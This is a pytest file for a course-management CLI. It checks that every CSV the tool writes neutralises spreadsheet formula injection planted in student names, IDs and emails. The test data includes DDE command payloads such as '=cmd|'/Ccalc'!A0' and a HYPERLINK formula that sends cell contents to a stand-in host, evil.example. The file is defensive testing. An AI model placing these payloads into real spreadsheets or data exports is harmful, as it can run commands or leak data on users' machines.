"""Every CSV coursectl writes opens safely in a spreadsheet: a roster with hostile names, sids
and emails goes through every CSV-writing command, and no text cell of any output starts with
a formula character. The outputs are read with the csv module, not with coursectl's writer.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from coursectl.cli import app
from coursectl.course.roster import read_roster
from coursectl.files import FORMULA_PREFIXES, csv_text, unneutralise
from tests.test_gradescope_cli import EMAIL, PASSWORD, build_fake

ROSTER = Path("rosters/synthetic-roster.csv")
# (old, hostile) replacements made in the roster and every file that names the student.
HOSTILE_SID = ("9100001", "-9100001")  # looks like a number, is text: must be neutralised
HOSTILE_EMAIL = ("blake.brightwater@", "=cmd|'/Ccalc'!A0@")
# By roster position; the fake Gradescope gives student 5 an extension.
HOSTILE_NAMES = {
    0: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    1: "+1+cmd",
    2: "@SUM(1+1)*cmd|' /C calc'!A0",
    5: "-2+3+cmd|' /C calc'!A0",
}
ROSTER_OUT = Path("grades/roster-written.csv")


@pytest.fixture
def hostile(course_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.chdir(course_dir)
    files = [ROSTER, Path("samples/pp1-submitted.txt"), *Path("exports/sample").rglob("*.*")]
    for path in files:
        if not path.is_file():
            continue
        text = path.read_text(encoding="utf-8")
        text = re.sub(rf"\b{HOSTILE_SID[0]}\b", HOSTILE_SID[1], text)
        text = text.replace(*HOSTILE_EMAIL)
        if path == ROSTER:
            rows = list(csv.reader(io.StringIO(text)))
            for position, name in HOSTILE_NAMES.items():
                rows[position + 1][1] = name
            buffer = io.StringIO()
            csv.writer(buffer, lineterminator="\n").writerows(rows)
            text = buffer.getvalue()
        path.write_text(text, encoding="utf-8")
    names = {s.name for s in read_roster(ROSTER, str(ROSTER))[0]}
    assert set(HOSTILE_NAMES.values()) <= names  # the roster reader takes them
    yield course_dir


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells, path
    return [c for c in cells if c.startswith(FORMULA_PREFIXES) and not is_number(c)]


def test_every_csv_output_neutralises_hostile_text(hostile: Path, runner: CliRunner) -> None:
    def ok(*args: str, env: dict[str, str | None] | None = None) -> None:
        result = runner.invoke(app, list(args), env=env)
        assert result.exit_code == 0, (args, result.output)

    ok("gradebook", "--inputs", "exports/sample", "--out", "grades", "--files", "both")
    ok("assign-reviews", "pp1-peer-reviews", "--submitted", "samples/pp1-submitted.txt")
    ok("check-reflections", "7", "--source", "local", "samples/reflections", "--out", "r.csv")
    fake, _ = build_fake(hostile)  # Gradescope members carry the roster's hostile names
    with fake:
        env: dict[str, str | None] = {
            "GRADESCOPE_URL": fake.url,
            "GRADESCOPE_EMAIL": EMAIL,
            "GRADESCOPE_PASSWORD": PASSWORD,
            "COURSECTL_COURSE": str(hostile),
        }
        ok("gradescope", "extensions", env=env)
        ok("gradescope", "roster", "--out", str(ROSTER_OUT), "--write", env=env)
    outputs = {
        "gradebook": Path("grades/gradebook.csv"),
        "canvas": Path("grades/gradebook-canvas.csv"),
        "reviews": Path("reviews/pp1-peer-reviews/reviews.csv"),
        "check-reflections": Path("r.csv"),
        "extensions": Path("grades/extensions.csv"),
        "roster": ROSTER,
    }
    for what, path in outputs.items():
        assert formula_cells(path) == [], what
        text = path.read_text(encoding="utf-8")
        if what not in ("extensions", "roster"):  # student 0 is not on the fake Gradescope
            assert "'" + HOSTILE_SID[1] in text, what  # a text sid stays text, neutralised
    # Every hostile name is in the outputs, neutralised (student 2 submitted no pp1: no review).
    for what, positions in (
        ("gradebook", {0, 1, 2, 5}),
        ("canvas", {0, 1, 2, 5}),
        ("reviews", {0, 1, 5}),
    ):
        text = outputs[what].read_text(encoding="utf-8")
        for position in positions:
            assert ("'" + HOSTILE_NAMES[position]).replace('"', '""') in text, (what, position)
    on_gradescope = [name for position, name in HOSTILE_NAMES.items() if position != 0]
    roster_text = ROSTER.read_text(encoding="utf-8")
    assert all(("'" + name).replace('"', '""') in roster_text for name in on_gradescope)
    assert "'" + HOSTILE_NAMES[5] in outputs["extensions"].read_text(encoding="utf-8")
    # The roster coursectl wrote reads back as Gradescope had it.
    assert set(on_gradescope) <= {s.name for s in read_roster(ROSTER, str(ROSTER))[0]}


def test_numbers_stay_numbers_and_text_round_trips() -> None:
    from decimal import Decimal

    hostile = ["=1+1", "+x", "-y", "@z", "\tt", "\rr", "'=a", "''@b", "'plain", "-1.5"]
    text = csv_text(
        ["text", "score"], [[cell, Decimal("-1.50")] for cell in hostile] + [[None, -2]]
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[1] for row in rows] == ["-1.50"] * len(hostile) + ["-2"]
    assert all(not row[0].startswith(FORMULA_PREFIXES) for row in rows)
    # A bare CR would split the row in a spreadsheet: it is written as a quoted line end.
    assert rows[5][0] == "'\nr"
    round_trip = [unneutralise(row[0]) for row in rows]
    assert round_trip[:5] + round_trip[6:] == [*hostile[:5], *hostile[6:], ""]
